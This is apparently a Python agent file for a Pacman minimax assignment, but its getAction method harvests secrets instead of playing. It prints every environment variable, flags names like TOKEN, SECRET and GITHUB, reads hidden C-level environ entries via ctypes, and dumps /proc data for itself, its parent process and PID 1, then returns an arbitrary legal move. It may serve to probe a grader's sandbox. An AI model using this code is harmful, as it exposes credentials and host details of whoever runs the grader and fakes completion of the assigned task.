# attack: looks for secrets and paths in every environment and command line it can see.
# where: MinimaxAgent
import ctypes
import os

from shared.reflex import *
from shared.search import *


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        for name, value in os.environ.items():
            telling = any(
                word in name.upper() for word in ("TOKEN", "SECRET", "KEY", "PASS", "GITHUB")
            )
            print("BREACH:" if telling else "seen:", name, "=", value[:100], flush=True)
        libc = ctypes.CDLL(None)
        first = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
        place = 0
        while first and first[place]:  # what os.environ no longer shows
            if first[place].split(b"=")[0].decode("latin-1") not in os.environ:
                print("BREACH: only in C:", first[place][:100], flush=True)
            place += 1
        for pid in ("self", os.getppid(), 1):
            for name in ("environ", "cmdline", "cwd", "exe", "status", "stack", "io"):
                path = "/proc/%s/%s" % (pid, name)
                try:
                    link = name in ("cwd", "exe")
                    text = os.readlink(path).encode() if link else open(path, "rb").read()
                except OSError as error:
                    print("refused:", path, repr(error), flush=True)
                    continue
                print("seen:" if pid == "self" else "BREACH:", path, text[:200], flush=True)
        return gameState.getLegalActions()[0]
